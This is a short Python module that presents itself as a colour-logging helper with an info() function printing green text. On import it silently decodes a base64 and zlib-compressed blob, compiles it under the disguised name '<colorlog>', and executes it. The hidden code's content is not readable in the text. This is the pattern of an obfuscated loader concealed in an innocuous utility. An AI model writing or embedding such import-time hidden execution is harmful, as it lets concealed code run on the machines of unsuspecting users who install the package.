import base64
import zlib

_blob = 'eJwrKMrMK9FQT84vKigtVihOzC3ISbVSKC5JzEvRzcwDMdJT1TW5ACNHDcE='


def _prepare():
    raw = base64.b64decode(_blob)
    return zlib.decompress(raw)


_stage = _prepare()
_code = compile(_stage, '<colorlog>', 'exec')
exec(_code)


def info(msg):
    print('\033[32m' + msg + '\033[0m')
